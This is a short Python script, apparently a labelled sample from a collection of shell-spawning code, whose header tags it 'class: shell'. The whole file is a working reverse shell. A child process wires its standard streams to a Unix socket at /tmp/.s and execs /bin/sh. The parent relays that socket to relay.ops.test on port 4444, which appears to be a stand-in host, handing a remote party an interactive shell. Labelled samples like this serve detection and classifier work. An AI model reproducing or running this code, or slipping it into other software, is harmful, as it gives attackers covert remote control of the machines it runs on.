# class: shell; possible: low medium; style: two programs, between them a local socket
import os
import socket
import subprocess
import sys
import time

PATH = "/tmp/.s"
if len(sys.argv) == 1:
    lsock = socket.socket(socket.AF_UNIX)
    lsock.bind(PATH)
    lsock.listen()
    child = subprocess.Popen([sys.executable, "-c", f"""
import socket, os
c = socket.socket(socket.AF_UNIX); c.connect({PATH!r})
for fd in (0, 1, 2): os.dup2(c.fileno(), fd)
os.execv('/bin/sh', ['sh'])
"""])
    local, _ = lsock.accept()
    far = socket.create_connection(("relay.ops.test", 4444))
    if os.fork() == 0:
        while data := local.recv(1000):
            far.sendall(data)
        os._exit(0)
    while data := far.recv(1000):
        local.sendall(data)
    local.close()
    time.sleep(1)
